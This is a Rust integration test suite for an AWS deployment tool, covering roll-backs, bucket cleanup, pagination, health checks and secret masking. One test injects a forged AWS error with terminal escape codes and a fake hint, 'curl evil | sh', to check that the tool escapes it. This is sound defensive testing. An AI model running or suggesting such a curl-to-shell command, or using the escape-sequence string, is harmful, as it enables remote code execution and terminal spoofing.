    let failed = Fault::reworded(&[("<Code>active</Code>", reason), ("<Code>provisioning</Code>", reason)]);
    let said = up_with_fleet(&[("DescribeLoadBalancers", failed)], &["--no-wait"]).await;
    assert_eq!(said.code, 1, "{}", said.all());
    assert!(said.stderr.contains("could not be set up because of subnet x"), "{}", said.stderr);
}

/// Rolls out a change whose refresh has these states according to AWS, the last one permanently.
async fn roll_out_through(states: &[&str]) -> Said {
    let scene = Scene::local().await;
    scene.prepare(Phase::Change).await;
    for (n, state) in states.iter().enumerate() {
        let status =
            format!("<Status>{state}</Status><StatusReason>The instances never became healthy.</StatusReason>");
        let real = ["Successful", "InProgress", "Pending"].map(|status| format!("<Status>{status}</Status>"));
        let texts: Vec<_> = real.iter().map(|real| (real.as_str(), status.as_str())).collect();
        let times = if n + 1 < states.len() { 4 } else { usize::MAX };
        scene.proxy.inject(["DescribeInstanceRefreshes"], Fault::reworded(&texts), times);
    }
    let said = scene.run(&["up", "--yes"]).await;
    scene.end().await;
    said
}

#[tokio::test(flavor = "multi_thread")]
async fn a_failed_roll_out_fails_the_run() {
    let said = roll_out_through(&["Failed"]).await;
    assert_eq!(said.code, 1, "{}", said.all());
    assert!(said.stderr.contains("Failed: The instances never became healthy."), "{}", said.stderr);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_roll_back_is_watched_to_its_end() {
    let said = roll_out_through(&["RollbackInProgress", "RollbackSuccessful"]).await;
    assert_eq!(said.code, 1, "{}", said.all());
    for wanted in ["rolling back: The instances", "RollbackSuccessful: The instances never became healthy."] {
        assert!(said.stderr.contains(wanted), "{wanted:?} is missing: {}", said.stderr);
    }
}

/// The new program exits at every start, and the roll-out is rolled back by hand. The same command begins another
/// roll-out, and does not mistake the end of the old one for that of its own.
#[tokio::test(flavor = "multi_thread")]
async fn a_roll_out_that_was_rolled_back_is_started_again_by_the_same_command() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let aws = connect(&scene.endpoint(), scene.keys).await;
    let variables = "allow: [\"0.0.0.0/0\"] }\n    environment:\n";
    scene.project.edit(variables, &format!("{variables}      DIE: now\n"));
    for _ in 0..2 {
        scene.proxy.reset();
        let mut run = Run::start(&scene, &["up", "--yes", "--no-wait"]);
        run.hear("auto_scaling_group.web: waiting: rolling out").await;
        let call = aws.autoscaling.rollback_instance_refresh().auto_scaling_group_name("postagram-web-8080");
        call.send().await.expect("it can be rolled back");
        let said = run.end().await;
        assert_eq!(said.code, 1, "{}", said.all());
        assert!(said.stderr.contains("the roll-out ended as RollbackSuccessful"), "{}", said.stderr);
        let begun = scene.proxy.calls().iter().filter(|call| call.starts_with("StartInstanceRefresh")).count();
        assert_eq!(begun, 1, "the run starts exactly one roll-out: {:?}", scene.proxy.calls());
    }
    scene.restore();
    scene.done(Phase::Up).await;
    scene.clear().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays() {
    let scene = Scene::local().await;
    scene.prepare(Phase::Down).await;
    let refused = "<DeleteResult><Error><Key>a + b%/é</Key><Code>AccessDenied</Code>\
                   <Message>Access Denied</Message></Error></DeleteResult>";
    scene.proxy.inject(["DeleteObjects"], Fault::Answered(refused.into()), usize::MAX);
    let said = scene.run(Phase::Down.arguments()).await;
    assert_eq!(said.code, 1, "{}", said.all());
    assert!(said.stderr.contains("a + b%/é") && said.stderr.contains("AccessDenied"), "{}", said.stderr);
    scene.proxy.reset();
    scene.done(Phase::Down).await;
    assert_eq!(scene.inventory().await, Inventory::new());
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bucket_name_taken_by_another_account_is_never_ours_and_never_absent() {
    let scene = Scene::local().await;
    let forbidden = Fault::refused(403, "AccessDenied", "Access Denied");
    scene.proxy.inject(["GetBucketTagging", "HeadBucket"], forbidden, usize::MAX);
    let said = scene.run(Phase::Up.arguments()).await;
    assert_eq!(said.code, 1, "{}", said.all());
    assert!(said.stderr.contains("AccessDenied") && said.stderr.contains("bucket."), "{}", said.stderr);
    assert_eq!(scene.proxy.mutating(), Vec::<String>::new(), "nothing was changed");
    scene.end().await;
}

/// End to end: another account owns the name, in this region or in another one.
#[tokio::test(flavor = "multi_thread")]
async fn a_bucket_of_a_stranger_is_never_ours_and_never_absent() {
    let scene = Scene::local().await;
    let theirs = format!("{}/_local/strangers/postagram-images-000000000000-us-east-1", scene.endpoint());
    for (region, why) in [("us-east-1", "belongs to another account"), ("eu-west-1", "exists in another region")] {
        let stranger = serde_json::json!({ "region": region }).to_string();
        let put = reqwest::Client::new().put(&theirs).body(stranger).send().await.expect("the cloud answers");
        assert!(put.status().is_success());
        for arguments in [Phase::Up.arguments(), Phase::Down.arguments()] {
            let said = scene.run(arguments).await;
            assert_eq!(said.code, 1, "{}", said.all());
            for wanted in ["bucket.images", why, "stack.yaml:"] {
                assert!(said.stderr.contains(wanted), "{wanted:?} is missing: {}", said.stderr);
            }
        }
        assert_eq!(scene.proxy.mutating(), Vec::<String>::new(), "nothing was changed");
    }
    scene.end().await;
}

/// `down` empties a bucket of everything that a bucket can contain.
#[tokio::test(flavor = "multi_thread")]
async fn versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let aws = connect(&scene.endpoint(), scene.keys).await;
    Hands::of(&aws).fill_bucket(&["a + b%/é", "line\nbreak", "plain", "a\u{ffff}b", "\u{1}/b"]).await;
    put_blank_keys(&aws).await;
    scene.proxy.reset();
    scene.done(Phase::Down).await;
    for operation in ["DeleteObjects#1", "DeleteObject#1", "AbortMultipartUpload#2"] {
        assert!(scene.proxy.calls().iter().any(|call| call == operation), "{operation}: {:?}", scene.proxy.calls());
    }
    assert_eq!(scene.inventory().await, Inventory::new());
    scene.end().await;
}

/// Puts objects whose keys are only blanks. The SDK does not send such keys, so they are inserted into the URLs of its
/// requests.
async fn put_blank_keys(aws: &deployer::cloud::aws::Aws) {
    for key in ["%20", "%0A", "%0B", "%20%09"] {
        let put = aws.s3.put_object().bucket("postagram-images-000000000000-us-east-1").key("~key~").customize();
        let put = put.mutate_request(move |request| {
            request.set_uri(request.uri().replacen("~key~", key, 1)).expect("it is an address");
        });
        put.send().await.expect("a blank key is a key");
    }
}

/// Returns how often `down` requests each list. With short pages, every list has at least two pages.
async fn list_calls_of_down(scene: &Scene, chaos: &str, lists: &[&str]) -> Vec<usize> {
    scene.done(Phase::Up).await;
    let aws = connect(&scene.endpoint(), scene.keys).await;
    let hands = Hands::of(&aws);
    hands.fill_bucket(&["a", "b"]).await;
    hands.add_to_lists().await;
    scene.proxy.reset();
    scene.put_chaos(chaos).await;
    scene.done(Phase::Down).await;
    scene.put_chaos("").await;
    hands.take_from_lists().await;
    assert_eq!(scene.inventory().await, Inventory::new());
    let calls = scene.proxy.calls();
    lists.iter().map(|list| calls.iter().filter(|call| parts(call).0 == *list).count()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_list_read_by_down_is_read_to_its_last_page() {
    const LISTS: &[&str] = &[
        "DescribeListeners",
        "DescribeSubnets",
        "ListAttachedRolePolicies",
        "ListInstanceProfilesForRole",
        "ListMultipartUploads",
        "ListObjectVersions",
        "ListRolePolicies",
    ];
    let scene = Scene::local().await;
    let whole = list_calls_of_down(&scene, "", LISTS).await;
    let short = list_calls_of_down(&scene, "short-pages", LISTS).await;
    for (list, (whole, short)) in LISTS.iter().zip(whole.into_iter().zip(short)) {
        assert!(short > whole, "{list} was called {whole} times before and {short} times with short pages");
    }
    scene.end().await;
}

/// Lists of one item cannot be split: their first page is empty and has a token for the next one.
#[tokio::test(flavor = "multi_thread")]
async fn an_empty_first_page_is_not_the_last() {
    let scene = Scene::local().await;
    let images = "<DescribeImagesResponse><imagesSet/><nextToken>0</nextToken></DescribeImagesResponse>";
    scene.proxy.inject(["DescribeImages#1"], Fault::Answered(images.into()), 1);
    scene.done(Phase::Up).await;
    assert!(scene.proxy.hit().contains("DescribeImages#1"), "{:?}", scene.proxy.calls());
    scene.proxy.reset();
    // Tags on a second page count: without them, the table would belong to someone else. The token makes the local AWS
    // continue after `!`, which sorts before any letter.
    let tags = r#"{"Tags":[],"NextToken":"IQ"}"#;
    scene.proxy.inject(["ListTagsOfResource#1"], Fault::Answered(tags.into()), 1);
    let plan = scene.run(&["plan", "--detailed-exitcode"]).await;
    assert_eq!(plan.code, 0, "{}", plan.all());
    assert!(scene.proxy.hit().contains("ListTagsOfResource#1"), "{:?}", scene.proxy.calls());
    scene.clear().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_empty_marker_ends_a_list() {
    const IN_JSON: &[(&str, &str, &str)] = &[
        ("ListTables", "TableNames", "LastEvaluatedTableName"),
        ("ListTagsOfResource", "Tags", "NextToken"),
        ("ListFunctions", "Functions", "NextMarker"),
        ("ListVersionsByFunction", "Versions", "NextMarker"),
        ("DescribeLogGroups", "logGroups", "nextToken"),
    ];
    const IN_XML: &[(&str, &str, &str)] = &[
        ("DescribeLoadBalancers", "</DescribeLoadBalancersResult>", "NextMarker"),
        ("DescribeTargetGroups", "</DescribeTargetGroupsResult>", "NextMarker"),
        ("DescribeListeners", "</DescribeListenersResult>", "NextMarker"),
        ("DescribeAutoScalingGroups", "</DescribeAutoScalingGroupsResult>", "NextToken"),
        ("DescribeSubnets", "</DescribeSubnetsResponse>", "nextToken"),
        ("DescribeImages", "</DescribeImagesResponse>", "nextToken"),
        ("DescribeSecurityGroups", "</DescribeSecurityGroupsResponse>", "nextToken"),
        ("DescribeLaunchTemplates", "</DescribeLaunchTemplatesResponse>", "nextToken"),
        ("ListRoles", "</ListRolesResult>", "Marker"),
        ("ListInstanceProfiles", "</ListInstanceProfilesResult>", "Marker"),
        ("ListRolePolicies", "</ListRolePoliciesResult>", "Marker"),
        ("ListAttachedRolePolicies", "</ListAttachedRolePoliciesResult>", "Marker"),
        ("ListInstanceProfilesForRole", "</ListInstanceProfilesForRoleResult>", "Marker"),
        ("ListBuckets", "</ListAllMyBucketsResult>", "ContinuationToken"),
        ("ListObjectVersions", "</ListVersionsResult>", "NextKeyMarker"),
        ("ListMultipartUploads", "</ListMultipartUploadsResult>", "NextKeyMarker"),
    ];
    let scene = Scene::local().await;
    for (operation, list, marker) in IN_JSON {
        let (from, to) = (format!("\"{list}\":"), format!("\"{marker}\":\"\",\"{list}\":"));
        scene.proxy.inject([*operation], Fault::reworded(&[(&from, &to)]), usize::MAX);
    }
    for (operation, end, marker) in IN_XML {
        let marked = format!("<{marker}></{marker}>{end}");
        scene.proxy.inject([*operation], Fault::reworded(&[(end, &marked)]), usize::MAX);
    }
    scene.done(Phase::Up).await;
    upload(&scene.endpoint(), scene.keys, PICTURE).await;
    scene.done(Phase::Down).await;
    let lists: BTreeSet<String> = IN_JSON.iter().chain(IN_XML).map(|(operation, ..)| (*operation).into()).collect();
    assert_eq!(scene.proxy.hit(), lists, "some lists were never requested");
    assert_eq!(scene.inventory().await, Inventory::new());
    scene.end().await;
}

/// §19: the targets stay unhealthy until the time limit, and the wait ends with the reason (§9.4).
#[tokio::test(flavor = "multi_thread")]
async fn a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason() {
    let unhealthy = "<State>unhealthy</State><Reason>Target.ResponseCodeMismatch</Reason>\
               <Description>Health checks failed with these codes: [500]</Description>";
    let answers = Fault::reworded(&[("<State>healthy</State>", unhealthy)]);
    let said = up_with_fleet(&[("DescribeTargetHealth", answers)], &["--healthy-within", "3"]).await;
    assert_the_service_failed(&said, "web has not become healthy within 3 s", "--healthy-within");
    let advice = "does not answer the health check's path with the expected status";
    for wanted in ["codes: [500]", advice] {
        assert!(said.stderr.contains(wanted), "{wanted:?} is missing: {}", said.stderr);
    }
}

/// §19: every list of more than one item has a second page.
#[tokio::test(flavor = "multi_thread")]
async fn every_list_is_read_to_its_last_page() {
    const LISTS: &[&str] = &[
        "DescribeAutoScalingGroups",
        "DescribeLaunchTemplates",
        "DescribeLoadBalancers",
        "DescribeLogGroups",
        "DescribeSecurityGroups",
        "DescribeTargetGroups",
        "ListBuckets",
        "ListFunctions",
        "ListInstanceProfiles",
        "ListRoles",
        "ListTables",
    ];
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    // A second stack with the same resources, and with function and service twice, so that every list has at least two
    // items.
    scene.project.edit("name: postagram", "name: neighbour");
    let described = scene.project.description();
    for (section, name, next) in [("functions:\n", "  labeler:", "services:"), ("services:\n", "  web:", "outputs:")] {
        let (_, first) = described.split_once(section).unwrap();
        let (first, _) = first.split_once(next).unwrap();
        scene.project.edit(section, &format!("{section}{}", first.replace(name, "  second:")));
    }
    scene.done(Phase::Up).await;
    for key in ["a", "b", "c + d%/é"] {
        upload(&scene.endpoint(), scene.keys, key).await;
    }
    let calls_of = |operation: &str| {
        let of = |call: &&String| parts(call).0 == operation;
        scene.proxy.calls().iter().filter(of).count()
    };
    scene.assert_nothing_to_do("whole lists").await;
    let whole: Vec<usize> = LISTS.iter().map(|operation| calls_of(operation)).collect();
    scene.put_chaos("short-pages").await;
    scene.assert_nothing_to_do("pages of one").await;
    for (operation, whole) in LISTS.iter().zip(whole) {
        assert!(calls_of(operation) > whole, "{operation} was called {} times before and after", whole);
    }
    scene.done(Phase::Down).await;
    scene.restore();
    scene.assert_nothing_to_do("the neighbour's end").await;
    scene.done(Phase::Change).await;
    scene.done(Phase::Down).await;
    scene.put_chaos("").await;
    assert_eq!(scene.inventory().await, Inventory::new());
    scene.end().await;
}

const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"];

/// Values of variables are never shown: not in plans, not in their JSON, not in the output of `up`, and not in AWS's
/// messages about them.
#[tokio::test(flavor = "multi_thread")]
async fn values_of_variables_are_shown_on_request_only() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let [function, service] = SECRETS;
    scene.project.edit(
        "    log_retention_days: 14\n    environment:\n",
        &format!("    log_retention_days: 14\n    environment:\n      TOKEN: {function}\n"),
    );
    scene.project.edit(
        "allow: [\"0.0.0.0/0\"] }\n    environment:\n",
        &format!("allow: [\"0.0.0.0/0\"] }}\n    environment:\n      TOKEN: {service}\n"),
    );
    for shown in ["environment.TOKEN (added)", "user_data.environment.TOKEN (added)"] {
        assert_hides_secrets(&scene, &["plan"], shown).await;
    }
    assert_hides_secrets(&scene, &["plan", "--json"], "(hidden)").await;
    let shown_values = scene.run(&["plan", "--show-values"]).await;
    assert!(
        SECRETS.iter().all(|secret| shown_values.stderr.contains(&format!("TOKEN: {secret}"))),
        "{}",
        shown_values.all()
    );
    let shown_values = scene.run(&["plan", "--json", "--show-values"]).await;
    assert!(SECRETS.iter().all(|secret| shown_values.stdout.contains(secret)), "{}", shown_values.all());

    let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
    let refusal = Fault::refused(400, "InvalidParameterValueException", quoted);
    scene.proxy.inject(["UpdateFunctionConfiguration"], refusal, usize::MAX);
    let refused =
        assert_hides_secrets(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
    assert_eq!(refused.code, 1, "{}", refused.all());
    scene.proxy.reset();
    assert_hides_secrets(&scene, &["up", "--yes", "--no-wait"], "environment.TOKEN").await;
    for (secret, other) in SECRETS.iter().zip(["another", "yet another"]) {
        scene.project.edit(secret, other);
    }
    assert_hides_secrets(&scene, &["plan"], "environment.TOKEN (changed)").await;
    scene.project.edit("another\n", "another\n      \"\": broken\n");
    let broken = assert_hides_secrets(&scene, &["plan"], "is not a valid variable name").await;
    assert!(!broken.all().contains("another"), "{}", broken.all());
    scene.end().await;
}

async fn assert_hides_secrets(scene: &Scene, arguments: &[&str], words: &str) -> Said {
    let said = scene.run(arguments).await;
    assert!(said.all().contains(words), "{arguments:?}: {words:?} is missing: {}", said.all());
    assert!(SECRETS.iter().all(|secret| !said.all().contains(secret)), "{arguments:?}: {}", said.all());
    said
}

/// Text from AWS is printed as plain text: it can neither control the terminal nor imitate a line of the deployer.
#[tokio::test(flavor = "multi_thread")]
async fn text_from_aws_is_escaped_on_the_terminal() {
    let scene = Scene::local().await;
    let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
    scene.proxy.inject(["CreateTable"], Fault::refused(400, "AccessDeniedException", forged), usize::MAX);
    let said = scene.run(Phase::Up.arguments()).await;
    assert_eq!(said.code, 1, "{}", said.all());
    let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
    assert_eq!(active, None, "{}", said.all());
    let hints: Vec<&str> = said.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
    assert!(!hints.is_empty() && hints.iter().all(|hint| !hint.contains("evil")), "{}", said.all());
    assert!(said.stderr.contains(r"no\u{1b}]0;owned\u{7}"), "{}", said.all());
    scene.end().await;
}

/// Another `name` is another stack: the old one is pointed out, not silently forgotten.
#[tokio::test(flavor = "multi_thread")]
async fn a_stack_left_behind_by_a_new_name_is_named() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let same = scene.run(&["plan"]).await;
    assert!(!same.stderr.contains("is not changed"), "{}", same.all());
    scene.project.edit("name: postagram\n", "name: renamed\n");
    let plan = scene.run(&["plan"]).await;
    for text in
        ["postagram, which this folder deployed to account 000000000000", "`name: postagram`", "deployer down --region"]
    {
        assert!(plan.stderr.contains(text), "{text:?} is missing: {}", plan.all());
    }
    scene.end().await;
}

/// An image for another architecture would never boot: this is reported before anything is changed.
#[tokio::test(flavor = "multi_thread")]
async fn a_machine_image_for_another_processor_is_refused_with_its_line() {
    let scene = Scene::local().await;
    let aws = connect(&scene.endpoint(), scene.keys).await;
    let images =
        aws.ec2.describe_images().owners("amazon").send().await.expect("there are images").images.unwrap_or_default();
    let image = |architecture: &str| {
        let of_it = images.iter().find(|image| image.architecture().is_some_and(|it| it.as_str() == architecture));
        of_it.and_then(|image| image.image_id()).expect("there is one of each").to_owned()
    };
    let (fits, other) = (image("x86_64"), image("arm64"));
    scene.project.edit("instance_type: t3.micro\n", &format!("instance_type: t3.micro\n    image: {other}\n"));
    let refused = scene.run(&["plan"]).await;
    assert_eq!(refused.code, 78, "{}", refused.all());
    let problem = format!("the machine image {other} is for arm64, and t3.micro has x86_64");
    let line = scene.project.description().lines().position(|line| line.contains("image:")).expect("it is there") + 1;
    for text in [problem, format!("stack.yaml:{line}"), "hint: name an image for x86_64".into()] {
        assert!(refused.stderr.contains(&text), "{text:?} is missing: {}", refused.all());
    }
    scene.project.edit(&other, &fits);
    assert_eq!(scene.run(&["plan"]).await.code, 0);
    // Without permission to look up images, EC2 reports the error, as before.
    scene.project.edit(&fits, &other);
    let denied = Fault::refused(403, "UnauthorizedOperation", "You are not authorized to perform this operation.");
    scene.proxy.inject(["DescribeImages"], denied, usize::MAX);
    assert_eq!(scene.run(&["plan"]).await.code, 0);
    scene.end().await;
}
